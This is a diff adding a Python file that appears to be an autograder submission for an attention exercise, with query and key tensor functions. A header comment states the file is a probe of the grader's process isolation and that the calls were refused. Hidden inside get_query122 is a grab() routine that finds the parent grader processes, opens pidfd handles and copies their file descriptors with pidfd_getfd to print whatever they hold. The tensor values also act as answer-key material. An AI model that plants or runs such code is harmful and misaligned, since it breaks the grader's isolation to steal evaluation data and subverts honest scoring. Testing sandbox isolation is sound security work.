@@ -1,0 +1,72 @@
+# tries: copies the descriptors of the processes above it with pidfd_getfd
+# holds: both calls are refused
+# score: {"1.2.1": 2, "1.2.2": 0, "1.3.1": 2, "1.3.2": 3, "1.4.1": 3, "1.4.2": 3}
+
+import ctypes
+import os
+
+import torch
+
+
+def victims():
+    """The process above this one and, if it is part of the grader too, the one above that."""
+    pids = [os.getppid()]
+    try:
+        above = int(open(f"/proc/{pids[0]}/stat").read().rpartition(")")[2].split()[1])
+        command = open(f"/proc/{above}/cmdline", "rb").read()
+        if b"server.py" in command or b"worker" in command:
+            pids.append(above)
+    except (OSError, ValueError):
+        pass
+    return [pid for pid in pids if pid > 1]
+
+
+libc = ctypes.CDLL(None, use_errno=True)
+ARM = os.uname().machine in ("aarch64", "arm64")
+
+
+def call(x86, arm, *arguments):
+    """A system call by its number; -1 where it is refused."""
+    return libc.syscall(arm if ARM else x86, *arguments)
+
+
+def grab():
+    for pid in victims():
+        handle = call(434, 434, pid, 0)
+        if handle < 0:
+            continue
+        for number in range(64):
+            copy = call(438, 438, handle, number, 0)
+            if copy >= 0:
+                print("BREACH: pidfd_getfd copied a descriptor of another process")
+                try:
+                    print(os.pread(copy, 20000, 0))
+                except OSError:
+                    pass
+                os.close(copy)
+        os.close(handle)
+
+
+def get_query121():
+    return 10 * torch.tensor([[0.47, 0.65, 0.60]])
+
+
+def get_query122():
+    grab()
+    return torch.zeros(4, 3)
+
+
+def get_query131():
+    return torch.zeros(1, 3)
+
+
+def get_query132():
+    return 50 * torch.tensor([[1.11, 1.15, 0.01]])
+
+
+def get_key141():
+    return torch.tensor([0.555, 0.575, 0.005])
+
+
+def get_key142():
+    return torch.tensor([0.6945, 0.7195, 0.0063])
